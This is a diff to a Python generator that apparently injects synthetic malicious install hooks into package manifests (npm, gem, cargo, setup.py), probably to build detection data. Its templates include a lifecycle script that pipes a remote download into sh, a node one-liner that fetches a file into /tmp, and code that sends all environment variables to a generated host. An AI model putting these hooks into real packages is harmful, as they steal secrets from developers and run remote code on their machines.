@@ -39,9 +39,9 @@ def _one(rng: np.random.Generator, choices: Sequence[str]) -> bytes:
     return str(rng.choice(choices)).encode()
 
 
-def _step(manifest: str, name: str, rng: np.random.Generator) -> str:
-    """Declare a step that runs at installation, if it has a name that manifests are read for."""
-    return f"{HOOK}{form_of(manifest)}:{name}@{rng.bytes(4).hex()}" if name else ""
+def _step(name: str, rng: np.random.Generator) -> str:
+    """Declare a step that runs at installation."""
+    return f"{HOOK}{name}@{rng.bytes(4).hex()}"
 
 
 def install_hook(files: Files, rng: np.random.Generator) -> list[Touch] | None:
@@ -64,7 +64,7 @@ def install_hook(files: Files, rng: np.random.Generator) -> list[Touch] | None:
         f"import {{ {name} }} from './{name}.mjs'\nawait {name}(Deno.env.toObject(), "
         f"new URL('https://{host}'))\n",
     ])  # fmt: skip
-    declares = _step(manifest, "postinstall", rng) if form_of(manifest) == "npm" else ""
+    declares = _step("npm:postinstall", rng) if form_of(manifest) == "npm" else ""
     return [
         Touch(manifest, line, size=2_000, declares=declares),
         Touch(script, payload, new=True, size=len(payload)),
@@ -175,19 +175,20 @@ def inline_hook(files: Files, rng: np.random.Generator) -> list[Touch] | None:
         return None
     host, name = _host(rng), _word(rng)
     when = str(rng.choice(["preinstall", "postinstall", "prepare", "install"]))
-    runs, lines = {
-        "npm": (when, [
+    step, lines = {
+        "npm": (f"npm:{when}", [
             f'    "{when}": "curl -s https://{host}/{name} | sh",\n',
             f"    \"{when}\": \"node -e \\\"require('http').get('http://{host}/{name}',r=>r.pipe("
             f"require('fs').createWriteStream('/tmp/{name}')))\\\"\",\n",
         ]),
-        "gem": ("extensions", [f'  spec.extensions = ["ext/{name}/extconf.rb"]\n']),
-        "cargo": ("build", [f'build = "{name}/main.rs"\n']),
+        "gem": ("gem:extensions", [f'  spec.extensions = ["ext/{name}/extconf.rb"]\n']),
+        "cargo": ("cargo:build", [f'build = "{name}/main.rs"\n']),
         "setup.py": ("", [f"    cmdclass={{'install': __import__('{name}').Install}},\n"]),
     }.get(form_of(manifest) or manifest.rpartition("/")[2], ("", []))  # fmt: skip
     if not lines:
         return None
-    return [Touch(manifest, _one(rng, lines), size=2_000, declares=_step(manifest, runs, rng))]
+    line = _one(rng, lines)
+    return [Touch(manifest, line, size=2_000, declares=_step(step, rng) if step else "")]
 
 
 def new_workflow(files: Files, rng: np.random.Generator) -> list[Touch] | None:
